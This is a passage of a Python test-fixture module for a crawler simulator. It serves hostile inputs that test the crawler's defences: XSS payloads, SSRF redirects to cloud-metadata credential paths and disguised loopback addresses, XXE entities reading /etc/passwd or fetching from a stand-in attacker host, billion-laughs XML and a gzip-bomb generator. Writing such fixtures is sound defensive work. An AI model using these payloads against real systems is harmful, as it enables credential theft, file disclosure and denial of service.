"""The hostile site: a corpus of bad and malicious inputs served by the simulator.

``hostile.test`` is a simulated wire that does everything a broken or hostile web does.
It is mounted in every :class:`~simulator.network.WireNetwork` (requests for its
hosts never touch the normal wires, whose output and truth are unchanged) and crawled as
the ``hostile`` source, which is registered only when ``WIREDESK_EXTRA_SOURCES`` names
:data:`REGISTRY_DIR` (see :func:`crawl_env`). That source is ``network: simulated`` but
``local: false``: the address guard treats it as a remote site, and
``WIREDESK_RESOLVE`` pins its names to a public address
(:data:`PINNED`), so redirects to private, loopback and metadata addresses are refused
for real. ``internal.hostile.test`` is an allowed name pinned to a private address.

Discovery: ``/robots.txt`` (sitemaps, one on a metadata address, one off-site), the main
RSS feed, six broken feeds, a sitemap index that lists itself, three hostile sitemaps,
a listing page and a listing page of 10,000 links. Every input is one :class:`Input` in
:data:`INPUTS` (``name``, ``url``, what it is, how it is linked); the tests hold the
expected outcome of each. The inputs, by class:

- markup: malformed HTML, HTML cut mid-tag, 100,000 nested ``<div>``, a page of only
  scripts, a 1 MB single line, scripts and event handlers in the title, dateline and
  body (``<script>``, ``onerror=``, ``<svg onload>``, ``javascript:`` hrefs)
- bytes: PNG and ZIP bytes served as ``text/html``, NUL bytes, invalid UTF-8, a charset
  contradiction (header utf-8, meta shift_jis, bytes latin-1), an unknown charset name,
  a binary robots.txt (on ``bin.hostile.test``, in front of a normal release)
- size and time: a 50 MB page with a Content-Length and one streamed without, a 9 MB
  page (archived, then refused by the clean stage's size guard), a gzip bomb (2 MiB
  compressed, 2 GiB of zeros decompressed; built once from repeated deflate blocks), a
  slowloris body (a byte every half second, bounded by ``DOWNLOAD_TIMEOUT``), a 200 with
  an empty body, a Content-Length larger than the body, a 1 MB response header
- redirects: A→B→A, a page redirecting to itself, a chain longer than
  ``REDIRECT_MAX_TIMES``, and redirects to 10.x, 127.0.0.1, 169.254.169.254, [::1],
  ``localhost``, ``metadata.google.internal``, an integer IP (2130706433), ``file://``
  and an allowed name that resolves to a private address; a direct link to that name
- links: ``javascript:`` and ``data:`` links in the listing, the feed and a sitemap; a
  URL with a 100 KB query; 10,000 links on one listing page
- XML: a feed that is HTML, a binary "Atom" feed, an empty feed, a feed with NUL bytes,
  billion-laughs entity expansion and external entities (``file:///etc/passwd`` and
  ``http://xxe.attacker.test/``, a host that must never be contacted) in a feed and in a
  sitemap; a sitemap index that contains itself
- dates: year 0, 9999, far future (275760), negative years and Feb 30 in feed
  ``pubDate``, sitemap ``lastmod``, JSON-LD and ``<meta>`` tags
- language: a release in Urdu (right to left, with an Urdu dateline)
- addresses hidden in IPv6 (issue 20): redirects to the metadata address as NAT64
  (``64:ff9b::a9fe:a9fe``) and 6to4 (``2002:a9fe:a9fe::1``), and to loopback as an
  IPv4-compatible address (``::7f00:1``)
- identity (issue 20): three different articles at ``view.php?article=1..3`` that each
  declare the site root as their canonical URL (a CMS mistake): three releases, not one
- terminal markup (issue 20): a title of rich markup (a ``link`` tag and a bare closing
  tag), which the demo summary must print as text

:func:`inbox_pages` gives further inputs to feed as WARC files through the inbox (among
them records with a malformed target URI and impossible status lines);
``hostile_registry/`` holds, beside the ``hostile`` source, registry entries that must
each be disabled on their own (a bad cron, an unknown time zone, an empty allowed domain,
a backtracking release URL pattern) while the rest loads.
"""

from __future__ import annotations

import struct
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from html import escape
from pathlib import Path
from typing import Any

from .sites import Response

HOST = "hostile.test"
BASE = f"http://{HOST}"
BIN_HOST = f"bin.{HOST}"           # serves a binary robots.txt
INTERNAL_HOST = f"internal.{HOST}"  # an allowed name that resolves to a private address
XXE_HOST = "xxe.attacker.test"      # named by external entities: must never be contacted
HOSTS = frozenset({HOST, BIN_HOST, INTERNAL_HOST})
# Where the guard believes each name lives (WIREDESK_RESOLVE): a public address for the
# site itself, a private one for the internal name.
PINNED = {HOST: ["93.184.216.34"], BIN_HOST: ["93.184.216.34"],
          INTERNAL_HOST: ["10.20.30.40"]}
REGISTRY_DIR = Path(__file__).with_name("hostile_registry")
ALLOWED_HOSTS = HOSTS               # the only hosts a crawl of the corpus may contact

MB = 1024 * 1024
HUGE_BYTES = 50 * MB
BIG_BYTES = 9 * MB
BOMB_MIB = 2048
FLOOD_LINKS = 10_000
SLOW_SECONDS = 0.5                  # between the bytes of the slowloris body
SLOW_MAX_SECONDS = 20.0             # the slow body gives up after this long
LONG_QUERY = "q=" + "A" * 100_000


@dataclass(frozen=True)
class Input:
    """One hostile input: a name, the URL that serves it, what it is, where it is linked
    (``listing``, ``feed``, ``sitemap``, ``robots``, ``discovery`` for a registry
    endpoint, ``flood``)."""

    name: str
    url: str
    what: str
    linked: str = "listing"


def crawl_env(proxy: str, download_timeout: int = 3) -> dict[str, str]:
    """Environment for crawling the hostile source through the simulator at ``proxy``."""
    import json

    return {"WIREDESK_EXTRA_SOURCES": str(REGISTRY_DIR), "WIREDESK_RESOLVE": json.dumps(PINNED),
            "WIREDESK_SIM_PROXY": proxy, "WIREDESK_DOWNLOAD_TIMEOUT": str(download_timeout)}


# -- responses the plain server cannot express ---------------------------------------------
@dataclass(slots=True)
class StreamedResponse(Response):
    """A response written by itself: a body streamed in chunks (never held whole), an
    announced length that differs from the body, pauses between chunks, raw headers."""

    chunks: Callable[[], Iterator[bytes]] | None = None
    length: int | None = None       # Content-Length to announce; None: close-delimited
    pause: float = 0.0
    raw_headers: list[tuple[str, str]] = field(default_factory=list)

    def write_to(self, handler: Any, head: bool) -> None:
        """Send the response on a ``BaseHTTPRequestHandler``; a client that hangs up ends
        it quietly."""
        handler.send_response(self.status)
        handler.send_header("Content-Type", self.content_type)
        if self.length is not None:
            handler.send_header("Content-Length", str(self.length))
        handler.send_header("Connection", "close")
        for key, value in [*self.headers.items(), *self.raw_headers]:
            handler.send_header(key, value)
        handler.end_headers()
        handler.close_connection = True
        if head:
            return
        deadline = time.monotonic() + SLOW_MAX_SECONDS
        try:
            for chunk in (self.chunks() if self.chunks else iter([self.body])):
                handler.wfile.write(chunk)
                handler.wfile.flush()
                if self.pause:
                    if time.monotonic() > deadline:
                        break
                    time.sleep(self.pause)
        except OSError:
            pass


@cache
def gzip_bomb() -> bytes:
    """A gzip member of :data:`BOMB_MIB` MiB of zeros, about 1 KiB per MiB: one deflate
    segment (ended by a full flush, so it stands alone) repeated, then an empty final
    block and the trailer."""
    zeros = bytes(MB)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = comp.flush()
    crc = 0
    for _ in range(BOMB_MIB):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + segment * BOMB_MIB + tail + struct.pack("<II", crc,
                                                            (BOMB_MIB * MB) & 0xFFFFFFFF)


# -- page texts (invented) ------------------------------------------------------------------
LEAD = ("The Harbourline Transit Authority said on Tuesday that its new night bus "
        "network would start next month, with twelve routes linking the port, the "
        "university and the eastern suburbs.")
MORE = ("The authority's chair said the routes had been drawn up after a year of "
        "surveys, and that fares would stay the same as on the day network. "
        "Timetables will be posted at every stop and on the authority's website.")


def page(title: str, body: str, head: str = "", lang: str = "en", attrs: str = "") -> str:
    """A plain release page around ``body`` (already markup)."""
    return (f'<!DOCTYPE html><html lang="{lang}"{attrs}><head><meta charset="utf-8">'
            f"<title>{title}</title>{head}</head><body><article><h1>{title}</h1>"
            f"{body}</article></body></html>")


def release(title: str, city: str = "PORTWELL", lead: str = LEAD) -> str:
    """An ordinary release page (a dateline and three paragraphs)."""
    return page(escape(title), f"<p>{city}, July 14, 2026 /Hostile Wire/ -- {escape(lead)}</p>"
                f"<p>{MORE}</p><p>{MORE}</p>")


URDU_TITLE = "شہر میں بجلی سے چلنے والی نئی بسوں کا اعلان"
URDU_PARAS = [
    "اسلام آباد، 14 جولائی (وائر ڈیسک): وفاقی دارالحکومت کی ترقیاتی اتھارٹی نے شہر میں"
    " بجلی سے چلنے والی پچاس نئی بسیں چلانے کے منصوبے کا اعلان کیا ہے۔",
    "اتھارٹی کے ترجمان نے بتایا کہ پہلے مرحلے میں یہ بسیں مرکزی شاہراہ اور یونیورسٹی روڈ پر"
    " چلیں گی، جبکہ دوسرے مرحلے میں مضافاتی علاقوں کو بھی شامل کیا جائے گا۔",
    "ترجمان کے مطابق اس منصوبے سے فضائی آلودگی میں کمی آئے گی اور شہریوں کو سستی سفری"
    " سہولت ملے گی۔",
    "شہریوں نے اس فیصلے کا خیرمقدم کیا ہے اور امید ظاہر کی ہے کہ کرایوں میں اضافہ نہیں"
    " کیا جائے گا۔",
]


def urdu_release() -> str:
    """A release in Urdu, right to left, with an Urdu dateline."""
    body = "".join(f"<p>{p}</p>" for p in URDU_PARAS)
    return page(URDU_TITLE, body, lang="ur", attrs=' dir="rtl"')


XSS_TITLE = "Quarterly results <script>alert('title')</script><svg onload=alert(1)>"


def scripted_release() -> str:
    """Scripts and event handlers everywhere a browser would run them."""
    head = ('<script>document.write("<h2>injected</h2>")</script>'
            '<meta http-equiv="refresh" content="0;url=javascript:alert(2)">')
    body = (
        '<p><b>KARACHI, July 14, 2026 <img src=x onerror="alert(\'dateline\')"> '
        '<script>alert("dateline")</script>/Hostile Wire/ --</b> Orchard Metals Ltd said '
        "its second-quarter revenue rose eleven percent on stronger demand for copper "
        "wire from cable makers.</p>"
        '<p onmouseover="alert(3)">The company said <a href="javascript:alert(\'link\')">'
        "its outlook</a> was unchanged and that the new smelter would open in the autumn "
        "as planned, &lt;script&gt;alert(\"text\")&lt;/script&gt; according to the filing."
        '</p><svg onload="alert(4)"><circle r="1"/></svg>'
        '<iframe src="javascript:alert(5)"></iframe>'
        f"<p>{MORE}</p><p>{MORE}</p>"
        '<form action="javascript:alert(6)"><input autofocus onfocus="alert(7)"></form>'
    )
    return page(XSS_TITLE, body, head=head, attrs=' onload="alert(8)"')


def absurd_dates_release() -> str:
    """Dates no calendar has, in JSON-LD, meta tags, <time> and the dateline."""
    head = (
        '<meta property="article:published_time" content="9999-12-31T23:59:59Z">'
        '<meta name="date" content="0000-00-00">'
        '<meta property="article:modified_time" content="-0001-02-30T25:61:00+99:00">'
        '<script type="application/ld+json">{"@context":"https://schema.org",'
        '"@type":"NewsArticle","headline":"Absurd dates","datePublished":"0000-01-01T00:00:00Z",'
        '"dateModified":"+275760-09-13T00:00:00Z","dateCreated":"2026-02-30"}</script>')
    body = ('<p><time datetime="2026-02-30T10:00:00+05:00">February 30, 2026</time></p>'
            f"<p>PORTWELL, February 30, 0000 /Hostile Wire/ -- {LEAD}</p><p>{MORE}</p>")
    return page("Absurd dates", body, head=head)


CMS_LEADS = [
    "The Harbourline Transit Authority said the ferry pier on the east bank will close "
    "for repairs from Monday, with a shuttle bus running every twenty minutes instead.",
    "Portwell's library board approved longer opening hours for the reading room, which "
    "will stay open until nine in the evening on weekdays from next month.",
    "The river council published its flood map for the coming winter and asked owners of "
    "riverside homes to register for text alerts before the end of October.",
]
MARKUP_TITLE = "[link=http://xxe.attacker.test/reset]Reset your password[/link] [/] [blink]now"


def cms_article(query: str) -> str:
    """One of three different articles that all declare the site root as canonical."""
    digits = query.partition("article=")[2]
    n = (int(digits) if digits.isdigit() else 1) % len(CMS_LEADS)
    return page(f"Harbour notice {n + 1}", f"<p>PORTWELL, July 14, 2026 /Hostile Wire/ -- "
                f"{CMS_LEADS[n]}</p><p>{MORE}</p>", head='<link rel="canonical" href="/">')


def nested_html(depth: int = 100_000) -> bytes:
    """``depth`` nested ``<div>`` around a paragraph."""
    return (b"<!DOCTYPE html><html><head><title>Deep</title></head><body>" + b"<div>" * depth
            + f"<p>{LEAD}</p>".encode() + b"</div>" * depth + b"</body></html>")


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00"
       b"\x00\x1f\xf3\xffa" + bytes(range(256)) * 8 + b"\x00\x00\x00\x00IEND\xaeB`\x82")
ZIP = (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(255, -1, -1)) * 8
       + b"PK\x05\x06" + bytes(18))


def filler_chunks(total: int, title: str) -> Callable[[], Iterator[bytes]]:
    """A page of ``total`` bytes, generated 1 MiB at a time."""
    def chunks() -> Iterator[bytes]:
        head = f"<html><head><title>{title}</title></head><body>".encode()
        yield head
        left = total - len(head) - len(b"</body></html>")
        line = f"<p>{LEAD}</p>\n".encode()
        block = line * (MB // len(line))
        while left > 0:
            part = block[:left]
            yield part
            left -= len(part)
        yield b"</body></html>"
    return chunks


def slow_chunks() -> Iterator[bytes]:
    """The start of a page, then one byte at a time (the pause is the response's)."""
    yield b"<html><head><title>Slow</title></head><body><p>"
    while True:
        yield b"a"


# -- the corpus -----------------------------------------------------------------------------
def _r(name: str) -> str:
    return f"{BASE}/release/{name}.html"


INPUTS: list[Input] = [
    Input("malformed_html", _r("malformed"), "unclosed and mismatched tags, stray end tags"),
    Input("truncated_html", _r("cut-mid-tag"), "a complete response whose HTML stops mid-tag"),
    Input("short_body", _r("short-body"), "Content-Length larger than the body sent"),
    Input("binary_png", _r("png-as-html"), "PNG bytes served as text/html"),
    Input("binary_zip", _r("zip-as-html"), "ZIP bytes served as text/html"),
    Input("huge_50mb", _r("fifty-megabytes"), "50 MB page with its Content-Length"),
    Input("huge_50mb_stream", _r("fifty-megabytes-streamed"),
          "50 MB page streamed without a Content-Length"),
    Input("big_9mb", _r("nine-megabytes"), "9 MB page: under the download cap, over the "
          "clean stage's size guard"),
    Input("gzip_bomb", _r("gzip-bomb"), "Content-Encoding: gzip, 2 MiB in, 2 GiB out"),
    Input("redirect_loop", f"{BASE}/r/loop-a", "redirects A -> B -> A"),
    Input("redirect_self", f"{BASE}/r/self", "redirects to itself"),
    Input("redirect_chain", f"{BASE}/r/chain/1", "a chain of 12 redirects"),
    Input("redirect_private", f"{BASE}/r/to-private", "redirect to 10.0.0.5"),
    Input("redirect_loopback", f"{BASE}/r/to-loopback", "redirect to 127.0.0.1"),
    Input("redirect_metadata", f"{BASE}/r/to-metadata", "redirect to 169.254.169.254"),
    Input("redirect_ipv6_loopback", f"{BASE}/r/to-ipv6-loopback", "redirect to [::1]"),
    Input("redirect_localhost", f"{BASE}/r/to-localhost", "redirect to localhost"),
    Input("redirect_metadata_name", f"{BASE}/r/to-metadata-name",
          "redirect to metadata.google.internal"),
    Input("redirect_integer_ip", f"{BASE}/r/to-integer-ip", "redirect to 2130706433"),
    Input("redirect_file", f"{BASE}/r/to-file", "redirect to file:///etc/passwd"),
    Input("redirect_internal_name", f"{BASE}/r/to-internal-name",
          "redirect to an allowed name resolving to 10.20.30.40"),
    Input("redirect_offsite", f"{BASE}/r/to-offsite", f"redirect to {XXE_HOST}"),
    Input("internal_name_link", f"http://{INTERNAL_HOST}/release/secret.html",
          "listing link to an allowed name resolving to a private address"),
    Input("javascript_link", "javascript:alert(document.cookie)", "javascript: link in a listing"),
    Input("data_link", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "data: link in a listing"),
    Input("javascript_feed_link", "javascript:alert(document.domain)//release/",
          "javascript: link in a feed", "feed"),
    Input("data_feed_link", "data:text/html,<script>alert('feed')</script>",
          "data: link in a feed", "feed"),
    Input("javascript_sitemap_loc", "javascript:alert('sitemap')//release/",
          "javascript: loc in a sitemap", "sitemap"),
    Input("long_query", f"{_r('long-query')}?{LONG_QUERY}", "a URL with a 100 KB query"),
    Input("flood_listing", f"{BASE}/listing/flood", "10,000 links on one listing page",
          "discovery"),
    Input("charset_contradiction", _r("charset-contradiction"),
          "header utf-8, meta shift_jis, bytes latin-1"),
    Input("charset_unknown", _r("charset-unknown"), "charset=x-klingon-9"),
    Input("nul_html", _r("nul-bytes"), "NUL bytes through the HTML"),
    Input("invalid_utf8", _r("invalid-utf8"), "invalid UTF-8 sequences, declared UTF-8"),
    Input("one_mb_line", _r("one-megabyte-line"), "a 1 MB single line of text"),
    Input("absurd_dates", _r("absurd-dates"), "year 0, 9999, 275760, negative, Feb 30 "
          "in JSON-LD, meta, <time> and the dateline"),
    Input("urdu", _r("urdu"), "a release in Urdu (RTL, Urdu dateline)"),
    Input("scripted", _r("scripted"), "script, onerror, svg onload and javascript: in "
          "title, dateline and body"),
    Input("meta_refresh_metadata", _r("meta-refresh-metadata"),
          "<meta http-equiv=refresh> to 169.254.169.254"),
    Input("slowloris", _r("slowloris"), "a body trickling one byte every half second"),
    Input("empty_200", _r("empty"), "200 with an empty body"),
    Input("huge_header", _r("huge-header"), "a 1 MB response header"),
    Input("deep_nesting", _r("deep-nesting"), "100,000 nested <div>"),
    Input("scripts_only", _r("scripts-only"), "a page of only scripts"),
    Input("binary_robots", f"http://{BIN_HOST}/robots.txt", "binary robots.txt in front of "
          "a release", "robots"),
    Input("behind_binary_robots", f"http://{BIN_HOST}/release/behind-binary-robots.html",
          "a release on the host with the binary robots.txt"),
    Input("feed_not_xml", f"{BASE}/feeds/not-xml.rss", "an HTML page as the feed", "discovery"),
    Input("feed_binary", f"{BASE}/feeds/binary.atom", "PNG bytes as the Atom feed", "discovery"),
    Input("feed_empty", f"{BASE}/feeds/empty.rss", "a feed with an empty body", "discovery"),
    Input("feed_nul", f"{BASE}/feeds/nul.rss", "NUL bytes in a feed", "discovery"),
    Input("feed_laughs", f"{BASE}/feeds/laughs.rss", "billion laughs in a feed", "discovery"),
    Input("feed_xxe", f"{BASE}/feeds/xxe.rss", "external entities (file, http) in a feed",
          "discovery"),
    Input("feed_absurd_dates", f"{BASE}/feeds/main.rss", "main feed: absurd pubDates, "
          "scripts in the feed and item titles", "discovery"),
    Input("sitemap_self_index", f"{BASE}/sitemap-index.xml", "a sitemap index that "
          "contains itself", "discovery"),
    Input("sitemap_laughs", f"{BASE}/sitemaps/laughs.xml", "billion laughs in a sitemap",
          "sitemap"),
    Input("sitemap_xxe", f"{BASE}/sitemaps/xxe.xml", "external entities in a sitemap",
          "sitemap"),
    Input("sitemap_absurd_dates", f"{BASE}/sitemaps/dates.xml", "absurd lastmod and "
          "news publication dates", "sitemap"),
    Input("sitemap_dated_release", _r("sitemap-dated"), "a release named only by the "
          "absurd-dates sitemap", "sitemap"),
    Input("redirect_nat64_metadata", f"{BASE}/r/to-nat64-metadata",
          "redirect to 64:ff9b::a9fe:a9fe (NAT64 of 169.254.169.254)"),
    Input("redirect_6to4_metadata", f"{BASE}/r/to-6to4-metadata",
          "redirect to 2002:a9fe:a9fe::1 (6to4 of 169.254.169.254)"),
    Input("redirect_ipv4_compatible_loopback", f"{BASE}/r/to-ipv4-compatible-loopback",
          "redirect to ::7f00:1 (IPv4-compatible 127.0.0.1)"),
    *(Input(f"cms_canonical_{n}", f"{BASE}/release/view.php?article={n}",
            f"article {n} of 3 that all declare the site root as canonical")
      for n in (1, 2, 3)),
    Input("markup_title", _r("markup-title"), "a title of rich markup: a link tag, [/]"),
    Input("robots_metadata_sitemap", "http://169.254.169.254/latest/sitemap.xml",
          "robots.txt names a sitemap on the metadata address", "robots"),
    Input("robots_offsite_sitemap", f"http://{XXE_HOST}/sitemap.xml",
          "robots.txt names a sitemap off-site", "robots"),
]
INPUTS_BY_NAME = {i.name: i for i in INPUTS}
LISTED = [i for i in INPUTS if i.linked == "listing"]
FEED_ITEMS = [i for i in INPUTS if i.url.startswith(f"{BASE}/release/")][:12]


# -- discovery documents ----------------------------------------------------------------------
XSS_FEED_TITLE = "<script>alert('feed')</script> Hostile Wire <img src=x onerror=alert(9)>"
ABSURD_PUBDATES = ["Mon, 30 Feb 2026 10:00:00 +0000", "Sat, 01 Jan 0000 00:00:00 GMT",
                   "Fri, 31 Dec 9999 23:59:59 GMT", "Tue, 13 Sep 275760 00:00:00 GMT",
                   "-0001-01-01T00:00:00Z", "yesterday, around lunch",
                   "Thu, 14 Jul 2026 10:00:00 +9900", "0000-00-00T00:00:00Z"]
ABSURD_LASTMODS = ["0000-00-00", "9999-12-31T23:59:59+00:00", "+275760-09-13",
                   "2026-02-30", "-0044-03-15", "2026-13-45T99:99:99Z"]
LAUGHS_DTD = ('<!DOCTYPE {root} [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                        for i in range(1, 10)) + "]>")
XXE_DTD = ('<!DOCTYPE {root} [<!ENTITY file SYSTEM "file:///etc/passwd">'
           f'<!ENTITY remote SYSTEM "http://{XXE_HOST}/xxe.dtd">'
           f'<!ENTITY % param SYSTEM "http://{XXE_HOST}/param.dtd"> %param;]>')


def rss(items: list[tuple[str, str, str]], dtd: str = "", channel_title: str = "Hostile Wire"
        ) -> str:
    """An RSS 2.0 feed of ``(link, title, pubDate)``; ``link``/``title`` are raw XML."""
    body = "".join(f"<item><title>{t}</title><link>{link}</link><pubDate>{d}</pubDate></item>"
                   for link, t, d in items)
    return (f'<?xml version="1.0" encoding="utf-8"?>{dtd}<rss version="2.0"><channel>'
            f"<title>{channel_title}</title><link>{BASE}/</link>{body}</channel></rss>")


def main_feed() -> str:
    items = [(escape(i.url), escape(i.what), ABSURD_PUBDATES[k % len(ABSURD_PUBDATES)])
             for k, i in enumerate(FEED_ITEMS)]
    items.append((_r("scripted"), f"<![CDATA[{XSS_TITLE}]]>", ABSURD_PUBDATES[2]))
    items.append((_r("urdu"), URDU_TITLE, "Tue, 14 Jul 2026 09:00:00 +0500"))
    for name in ("javascript_feed_link", "data_feed_link"):
        items.append((escape(INPUTS_BY_NAME[name].url), "<![CDATA[<b>click</b>]]>",
                      ABSURD_PUBDATES[1]))
    return rss(items, channel_title=escape(XSS_FEED_TITLE))


def urlset(entries: list[tuple[str, str]], dtd: str = "") -> str:
    """A sitemap (with Google News tags) of ``(loc, date)``; ``loc`` is raw XML."""
    body = "".join(
        f"<url><loc>{loc}</loc><lastmod>{d}</lastmod><news:news><news:publication>"
        f"<news:name>Hostile Wire</news:name><news:language>en</news:language>"
        f"</news:publication><news:publication_date>{d}</news:publication_date>"
        f"<news:title>Dated {k}</news:title></news:news></url>"
        for k, (loc, d) in enumerate(entries))
    return ('<?xml version="1.0" encoding="UTF-8"?>' + dtd
            + '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
            'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + body + "</urlset>")


def sitemap_index() -> str:
    locs = [f"{BASE}/sitemap-index.xml", f"{BASE}/sitemaps/laughs.xml",
            f"{BASE}/sitemaps/xxe.xml", f"{BASE}/sitemaps/dates.xml",
            f"http://{XXE_HOST}/child-sitemap.xml"]
    body = "".join(f"<sitemap><loc>{loc}</loc><lastmod>9999-12-31</lastmod></sitemap>"
                   for loc in locs)
    return ('<?xml version="1.0" encoding="UTF-8"?><sitemapindex '
            'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">' + body + "</sitemapindex>")


def listing() -> str:
    links = "".join(f'<li><a href="{escape(i.url)}">{escape(i.what)}</a></li>'
                    for i in LISTED)
    return page("Hostile Wire: all releases",
                f'<ul>{links}</ul><a rel="next" href="{BASE}/listing/?page=2">Next</a>'
                '<a href="vbscript:msgbox(1)">old</a><a href="  ">blank</a><a>none</a>')


def flood_listing() -> str:
    links = "".join(f'<a href="/release/flood-{k}.html">release {k}</a>\n'
                    for k in range(FLOOD_LINKS))
    return page("Ten thousand links", links)


# -- routing ----------------------------------------------------------------------------------
XML = "application/rss+xml; charset=utf-8"
SITEMAP = "application/xml; charset=utf-8"


def _ok(text: str | bytes, ctype: str = "text/html; charset=utf-8") -> Response:
    body = text.encode("utf-8") if isinstance(text, str) else text
    return Response(200, body, ctype, compressible=False)


def _announced(body: bytes, extra: int = 0,
               raw_headers: list[tuple[str, str]] | None = None) -> StreamedResponse:
    """``body`` sent whole, announcing a Content-Length ``extra`` bytes longer than it."""
    return StreamedResponse(200, body, length=len(body) + extra, raw_headers=raw_headers or [])


def _redirect(location: str) -> Response:
    return Response(302, b"<html><body>Moved</body></html>", headers={"Location": location},
                    compressible=False)


REDIRECTS = {
    "/r/loop-a": f"{BASE}/r/loop-b", "/r/loop-b": f"{BASE}/r/loop-a",
    "/r/self": f"{BASE}/r/self",
    "/r/to-private": "http://10.0.0.5/admin/", "/r/to-loopback": "http://127.0.0.1/__hits__",
    "/r/to-metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "/r/to-ipv6-loopback": "http://[::1]/", "/r/to-localhost": "http://localhost:8080/",
    "/r/to-metadata-name": "http://metadata.google.internal/computeMetadata/v1/",
    "/r/to-integer-ip": "http://2130706433/", "/r/to-file": "file:///etc/passwd",
    "/r/to-offsite": f"http://{XXE_HOST}/landing",
    "/r/to-internal-name": f"http://{INTERNAL_HOST}/release/secret.html",
    "/r/to-nat64-metadata": "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/",
    "/r/to-6to4-metadata": "http://[2002:a9fe:a9fe::1]/latest/meta-data/",
    "/r/to-ipv4-compatible-loopback": "http://[::7f00:1]/__hits__",
}
MALFORMED = ("<html><head><title>Malformed <b>release</title><body><div><p>PORTWELL -- "
             f"{LEAD}<p>{MORE}</div></div></span><table><tr><td>{MORE}<td><li>stray"
             "</body><p>after body</p></html><p>after html<div attr=unquoted value"
             " other='x>")
ROBOTS = (f"User-agent: *\nDisallow: /private/\nSitemap: {BASE}/sitemap-index.xml\n"
          "Sitemap: http://169.254.169.254/latest/sitemap.xml\n"
          f"Sitemap: http://{XXE_HOST}/sitemap.xml\n")


def _pages() -> dict[str, Callable[[], Response]]:
    return {
        "/robots.txt": lambda: _ok(ROBOTS, "text/plain; charset=utf-8"),
        "/feeds/main.rss": lambda: _ok(main_feed(), XML),
        "/feeds/not-xml.rss": lambda: _ok(release("This feed is a web page"), XML),
        "/feeds/binary.atom": lambda: _ok(PNG, "application/atom+xml"),
        "/feeds/empty.rss": lambda: _ok(b"", XML),
        "/feeds/nul.rss": lambda: _ok(rss([(_r("nul-bytes"), "NUL\x00in\x00title",
                                            ABSURD_PUBDATES[0])]).encode().replace(
            b"<channel>", b"<channel>\x00\x00"), XML),
        "/feeds/laughs.rss": lambda: _ok(rss([(_r("malformed"), "&lol9;", "&lol9;")],
                                             LAUGHS_DTD.format(root="rss")), XML),
        "/feeds/xxe.rss": lambda: _ok(rss([(_r("charset-unknown"), "&file;", "&remote;")],
                                          XXE_DTD.format(root="rss"), "&file;&remote;"), XML),
        "/sitemap-index.xml": lambda: _ok(sitemap_index(), SITEMAP),
        "/sitemaps/laughs.xml": lambda: _ok(urlset([(_r("truncated-html") + "&lol9;",
                                                     "&lol9;")], LAUGHS_DTD.format(
                                                         root="urlset")), SITEMAP),
        "/sitemaps/xxe.xml": lambda: _ok(urlset([("&file;", "&remote;"),
                                                 (_r("one-megabyte-line"), "&file;")],
                                                XXE_DTD.format(root="urlset")), SITEMAP),
        "/sitemaps/dates.xml": lambda: _ok(urlset(
            [(_r("sitemap-dated"), ABSURD_LASTMODS[0])]
            + [(_r(n), d) for n, d in zip(("absurd-dates", "urdu", "scripted",
                                           "invalid-utf8", "charset-contradiction"),
                                          ABSURD_LASTMODS[1:], strict=True)]
            + [(escape(INPUTS_BY_NAME["javascript_sitemap_loc"].url), "2026-07-14")]),
            SITEMAP),
        "/listing/": lambda: _ok(listing()),
        "/listing/flood": lambda: _ok(flood_listing()),
        "/release/malformed.html": lambda: _ok(MALFORMED),
        "/release/cut-mid-tag.html": lambda: _ok(release("Cut short")[:-400] + "<p cla"),
        "/release/short-body.html": lambda: _announced(release("Short body").encode(), 5000),
        "/release/png-as-html.html": lambda: _ok(PNG),
        "/release/zip-as-html.html": lambda: _ok(ZIP),
        "/release/fifty-megabytes.html": lambda: StreamedResponse(
            200, chunks=filler_chunks(HUGE_BYTES, "Fifty"), length=HUGE_BYTES),
        "/release/fifty-megabytes-streamed.html": lambda: StreamedResponse(
            200, chunks=filler_chunks(HUGE_BYTES, "Fifty streamed")),
        "/release/nine-megabytes.html": lambda: StreamedResponse(
            200, chunks=filler_chunks(BIG_BYTES, "Nine"), length=BIG_BYTES),
        "/release/gzip-bomb.html": lambda: _announced(
            gzip_bomb(), raw_headers=[("Content-Encoding", "gzip")]),
        "/release/charset-contradiction.html": lambda: _ok(
            page("Caf\u00e9 cr\u00e8me", "<p>PORTWELL -- Le caf\u00e9 na\u00eff ouvre "
                 f"\u00e0 No\u00ebl. {LEAD}</p><p>{MORE}</p>",
                 head='<meta http-equiv="Content-Type" content="text/html; charset=shift_jis">'
                 ).replace('<meta charset="utf-8">', "").encode("latin-1")),
        "/release/charset-unknown.html": lambda: _ok(
            release("Unknown charset").replace('charset="utf-8"', 'charset="x-klingon-9"'),
            "text/html; charset=x-klingon-9"),
        "/release/nul-bytes.html": lambda: _ok(release("NUL\x00bytes").replace(
            "<p>", "<p>\x00").encode() + b"\x00" * 64),
        "/release/invalid-utf8.html": lambda: _ok(release("Invalid UTF-8").encode().replace(
            b"night bus", b"night \xc3\x28 \xa0\xa1 \xf0\x28\x8c\xbc bus\xff\xfe")),
        "/release/one-megabyte-line.html": lambda: _ok(
            page("One line", "<p>" + ("word " * (MB // 5)) + "</p>")),
        "/release/absurd-dates.html": lambda: _ok(absurd_dates_release()),
        "/release/urdu.html": lambda: _ok(urdu_release()),
        "/release/scripted.html": lambda: _ok(scripted_release()),
        "/release/slowloris.html": lambda: StreamedResponse(
            200, chunks=slow_chunks, length=100_000, pause=SLOW_SECONDS),
        "/release/empty.html": lambda: _ok(b""),
        "/release/meta-refresh-metadata.html": lambda: _ok(page(
            "Moved", "<p>Moved.</p>", head='<meta http-equiv="refresh" '
            'content="0;url=http://169.254.169.254/latest/meta-data/">')),
